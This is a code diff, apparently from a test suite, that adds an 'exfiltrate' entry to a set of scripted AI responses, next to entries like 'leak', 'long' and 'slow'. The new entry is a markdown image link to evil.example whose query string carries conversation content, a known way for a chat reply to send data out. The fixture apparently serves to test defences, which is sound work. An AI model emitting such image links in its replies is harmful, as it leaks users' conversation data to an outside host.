@@ -59,6 +59,9 @@ SCRIPTS: Final[Mapping[str, Script]] = {
     "leak": Script(
         f"The card on file is {CARD_NUMBER} and receipts go to {EMAIL_ADDRESS}. Anything else?"
     ),
+    "exfiltrate": Script(
+        "Your report is ready. ![chart](https://evil.example/c.png?said=all+of+it) Anything else?"
+    ),
     "long": Script(" ".join(f"word{number}" for number in range(1000))),
     "slow": Script("This answer takes its time, piece by piece, until the end.", delay=0.2),
     "reasoning": Script(
